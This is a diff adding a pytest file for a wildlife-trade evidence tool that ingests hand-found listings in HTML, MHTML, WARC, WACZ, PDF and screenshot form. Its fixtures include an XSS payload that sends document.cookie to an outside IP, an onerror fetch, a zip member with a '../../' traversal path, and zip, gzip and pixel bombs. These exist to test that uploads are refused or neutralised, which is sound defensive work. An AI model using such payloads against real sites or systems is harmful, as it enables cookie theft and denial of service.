@@ -1,0 +1,212 @@
+"""Offers found by hand, in every form an analyst brings them (a page's address, a saved HTML, MHTML, WARC,
+WACZ, PDF, a screenshot): stored as a listing with its upload as evidence, its contacts linking it to the
+crawled listings of the same seller, queued, counted apart in the report, re-hashed by `evidence verify`.
+Hostile files are refused with a reason and leave nothing half-stored."""
+import gzip
+import io
+import os
+import subprocess
+import sys
+import zipfile
+from email.mime.image import MIMEImage
+from email.mime.multipart import MIMEMultipart
+from email.mime.text import MIMEText
+
+import pytest
+from PIL import Image
+
+from helpers import seed_site_and_run, store_with_contacts
+from wildwatch import config
+from wildwatch.evidence import warc
+from wildwatch.evidence.store import open_store
+from wildwatch.hand import files, ingest
+from wildwatch.report.build import build_report
+
+PHONE_TEXT = "Vòng tay ngà voi thật, bán gấp. Liên hệ Zalo 0912 345 678"
+HOSTILE = ("<html><head><title>Vòng ngà voi</title><meta property='og:title' content='Vòng tay ngà voi thật'></head>"
+           f"<body><h1>Vòng tay ngà voi</h1><p>{PHONE_TEXT}</p>"
+           "<script>fetch('http://203.0.113.9/steal?c='+document.cookie)</script>"
+           "<img src='http://203.0.113.9/x.png' onerror=\"fetch('http://203.0.113.9/onerror')\"></body></html>")
+
+
+def png(size=(320, 240), colour=(200, 40, 40)) -> bytes:
+    out = io.BytesIO()
+    Image.new("RGB", size, colour).save(out, "PNG")
+    return out.getvalue()
+
+
+def mhtml(html: str = HOSTILE, url: str = "https://www.facebook.com/groups/ngavoi/posts/123") -> bytes:
+    message = MIMEMultipart("related", type="text/html")
+    message["From"] = "<Saved by Blink>"
+    message["Snapshot-Content-Location"] = url
+    page = MIMEText(html, "html", "utf-8")
+    page["Content-Location"] = url
+    message.attach(page)
+    picture = MIMEImage(png(), "png")
+    picture["Content-Location"] = "https://scontent.example/photo.png"
+    message.attach(picture)
+    return message.as_bytes()
+
+
+def warc_of(html: str = HOSTILE, url: str = "https://www.facebook.com/groups/ngavoi/posts/124") -> bytes:
+    return warc.build(warc.PageCapture(url=url, status=200, headers=[("Content-Type", "text/html; charset=utf-8")],
+                                       body=html.encode()))
+
+
+def wacz(html: str = HOSTILE) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("datapackage.json", '{"profile": "data-package"}')
+        z.writestr("../../outside.txt", "a member that names a place outside the folder")
+        z.writestr("archive/data.warc.gz", gzip.compress(warc_of(html, "https://zalo.me/g/ngavoi/125")))
+    return out.getvalue()
+
+
+def pdf(text: str) -> bytes:
+    """A one-page PDF with `text` in Helvetica (ASCII), written by hand: no PDF library writes text."""
+    content = f"BT /F1 12 Tf 40 700 Td ({text}) Tj ET".encode()
+    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
+               b"/Resources << /Font << /F1 5 0 R >> >> >>",
+               b"<< /Length " + str(len(content)).encode() + b" >>\nstream\n" + content + b"\nendstream",
+               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
+    out, offsets = io.BytesIO(), []
+    out.write(b"%PDF-1.4\n")
+    for i, body in enumerate(objects, start=1):
+        offsets.append(out.tell())
+        out.write(f"{i} 0 obj\n".encode() + body + b"\nendobj\n")
+    xref = out.tell()
+    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
+    for offset in offsets:
+        out.write(f"{offset:010d} 00000 n \n".encode())
+    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
+    return out.getvalue()
+
+
+@pytest.fixture
+def crawled_seller(conn, tmp_path, monkeypatch):
+    """A listing the crawl stored on a Vietnamese marketplace, with the seller's Zalo number."""
+    monkeypatch.setenv("WILDWATCH_EVIDENCE_DIR", str(tmp_path / "evidence"))
+    with conn, conn.cursor() as cur:
+        site, run = seed_site_and_run(cur, "demo_vn", "VN", "vi")
+    return store_with_contacts(conn, site, run, "http://127.0.0.1:1/item/vn0001", "Vòng ngà voi",
+                               "Liên hệ Zalo 0912345678", "Anh Tuấn", "/seller/t1", region="VN", language="vi",
+                               queue=True)
+
+
+def add(conn, upload=None, **kw) -> dict:
+    settings = config.load()
+    find = ingest.Find(platform=kw.pop("platform", "facebook"), country=kw.pop("country", "VN"), found_by="amina",
+                       upload=upload, **kw)
+    with conn:
+        return ingest.add(conn, find, open_store(settings.evidence_dir), settings)
+
+
+def network_of(conn, listing_id):
+    with conn.cursor() as cur:
+        cur.execute("SELECT network_id FROM network_members WHERE listing_id = %s", (listing_id,))
+        row = cur.fetchone()
+        return row and row[0]
+
+
+@pytest.mark.parametrize("form, data", [
+    ("html", lambda: HOSTILE.encode()), ("mhtml", mhtml), ("warc", warc_of), ("wacz", wacz),
+    ("pdf", lambda: pdf("Vong nga voi that. Lien he Zalo 0912 345 678")),
+])
+def test_each_saved_form_is_stored_with_its_evidence_contacts_network_and_queue(conn, crawled_seller, form, data):
+    upload = files.read(data())
+    assert upload.kind == form
+    done = add(conn, upload)
+    assert [c["value"] for c in done["contacts"] if c["kind"] in ("phone", "zalo")]
+    assert network_of(conn, done["listing_id"]) == network_of(conn, crawled_seller) is not None
+    with conn.cursor() as cur:
+        cur.execute("""SELECT e.kind, e.sha256, e.media_type FROM evidence e WHERE e.listing_id = %s""",
+                    (done["listing_id"],))
+        (kind, sha, media), = cur.fetchall()
+        cur.execute("SELECT q.reason, q.status, s.kind, s.platform FROM review_queue q JOIN listings l ON "
+                    "l.id = q.listing_id JOIN sites s ON s.id = l.site_id WHERE q.id = %s", (done["queue_id"],))
+        queued = cur.fetchone()
+        cur.execute("SELECT found_by, source, file_sha256 FROM hand_finds WHERE listing_id = %s", (done["listing_id"],))
+        found = cur.fetchone()
+    assert kind == "upload" and open_store(config.load().evidence_dir).get(sha.strip()) == upload.data
+    assert queued == ("hand", "pending", "hand", "Facebook") and found == ("amina", form, sha)
+    if form == "mhtml":
+        assert done["photos"] == 1  # the picture saved inside the page
+    if form in ("mhtml", "warc", "wacz"):
+        assert done["url"].startswith("https://")  # the address the file says it came from
+
+
+def test_a_screenshot_with_typed_text_and_the_report_counts_finds_by_hand_apart(conn, crawled_seller, tmp_path):
+    shot = add(conn, files.read(png()), text=PHONE_TEXT, title="Vòng ngà voi (nhóm kín)", platform="zalo",
+               seen_on=__import__("datetime").date(2026, 11, 20))
+    assert shot["photos"] == 1 and network_of(conn, shot["listing_id"]) == network_of(conn, crawled_seller)
+    add(conn, files.read(HOSTILE.encode()), seen_on=__import__("datetime").date(2026, 11, 21))
+    report = build_report(conn, "2026-11")
+    assert {(r["platform"], r["country"], r["found_by_hand"]) for r in report.tables["hand_finds"]} == \
+        {("Facebook", "VN", 1), ("Zalo", "VN", 1)}
+    assert any(r["platform"] == "Zalo (by hand)" for r in report.tables["offers"])
+    verify = subprocess.run([sys.executable, "-m", "wildwatch.cli", "evidence", "verify"], env=dict(os.environ),
+                            capture_output=True, text=True, timeout=120)
+    assert verify.returncode == 0 and "altered" not in verify.stdout.lower().replace("0 altered", ""), verify.stdout
+
+
+@pytest.mark.parametrize("data, reason", [
+    (b"", "empty"), (b"\x00\x01 not a page", "not a page"), (b"x" * (files.MAX_UPLOAD + 1), "over 25 MB"),
+    (gzip.compress(b"WARC/1.0\r\n" + b"\x00" * (60 * 1024 * 1024)), "decompression bomb"),
+    (lambda: _zip_bomb(), "decompression bomb"),
+    (lambda: _pixel_bomb(), "larger than wildwatch reads|cannot be read"),
+    (b"PK\x03\x04 broken zip", "cannot be read"),
+    (lambda: mhtml().replace(b"text/html", b"text/plain"), "no HTML page"),
+])
+def test_hostile_or_broken_uploads_are_refused_with_a_reason(data, reason):
+    with pytest.raises(files.UploadRefused, match=reason):
+        files.read(data() if callable(data) else data)
+
+
+def _zip_bomb() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("archive/data.warc", b"\x00" * (60 * 1024 * 1024))
+    return out.getvalue()
+
+
+def _pixel_bomb() -> bytes:
+    out = io.BytesIO()
+    Image.new("1", (8000, 6000)).save(out, "PNG")
+    return out.getvalue()
+
+
+def test_a_refused_find_stores_nothing(conn, crawled_seller):
+    with conn.cursor() as cur:
+        cur.execute("SELECT count(*) FROM listings")
+        before = cur.fetchone()[0]
+    with pytest.raises(ingest.HandError, match="no platform"):
+        add(conn, files.read(HOSTILE.encode()), platform="myspace")
+    with pytest.raises(ingest.HandError, match="already stored as crawled listing"):
+        add(conn, None, url="http://127.0.0.1:1/item/vn0001", text=PHONE_TEXT)
+    with conn.cursor() as cur:
+        cur.execute("SELECT count(*) FROM listings")
+        assert cur.fetchone()[0] == before
+
+
+def test_the_capture_command_takes_a_saved_file_and_a_demo_page_by_address(conn, crawled_seller, tmp_path,
+                                                                          demo_sites, crawl_env):
+    saved = tmp_path / "post.mhtml"
+    saved.write_bytes(mhtml())
+    cli = [sys.executable, "-m", "wildwatch.cli"]
+    out = subprocess.run([*cli, "capture", "--platform", "facebook", "--country", "VN", "--file", str(saved),
+                          "--user", "amina"], env=crawl_env, capture_output=True, text=True, timeout=120)
+    assert out.returncode == 0 and "stored and queued" in out.stdout and "zalo" in out.stdout.lower(), out.stderr
+    page = demo_sites["demo_tz"] + "/item/tz0001"
+    out = subprocess.run([*cli, "capture", "--platform", "other", "--country", "TZ", "--url", page,
+                          "--no-screenshot", "--json"], env=crawl_env, capture_output=True, text=True, timeout=120)
+    assert out.returncode == 0, out.stderr
+    with conn.cursor() as cur:
+        cur.execute("""SELECT l.title, e.kind FROM listings l JOIN evidence e ON e.listing_id = l.id
+                       JOIN hand_finds h ON h.listing_id = l.id WHERE l.url = %s""", (page,))
+        title, kind = cur.fetchone()
+    assert title and kind == "warc"
+    refused = subprocess.run([*cli, "capture", "--platform", "other", "--country", "TZ",
+                              "--url", demo_sites["demo_tz"] + "/account/settings"], env=crawl_env,
+                             capture_output=True, text=True, timeout=120)
+    assert refused.returncode == 1 and "robots.txt" in refused.stderr
